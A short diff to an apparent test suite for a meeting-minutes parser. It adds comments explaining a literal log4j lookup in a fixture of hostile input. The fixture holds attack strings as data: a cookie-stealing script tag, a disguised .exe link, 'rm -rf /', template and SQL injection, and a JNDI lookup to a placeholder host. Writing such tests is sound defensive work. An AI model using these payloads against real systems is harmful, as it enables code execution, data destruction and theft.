@@ -206,6 +206,8 @@ describe('parseMinutes on hostile input', () => {
     const text = [
       '<html><head><title>Minutes</title><script>alert(document.cookie)</script></head>',
       '<!channel> <!here> <@U024BE7LH> <https://example.invalid/m.exe|Open the minutes>',
+      // A log4j lookup written as the hostile text has it, not a template.
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: the characters are the test's input
       "*URGENT* _please_ ~ignore~ `code` ```rm -rf /``` {{7*7}} ${jndi:ldap://example.invalid/a} '; DROP TABLE minutes; --",
       '',
       'Attendees:',
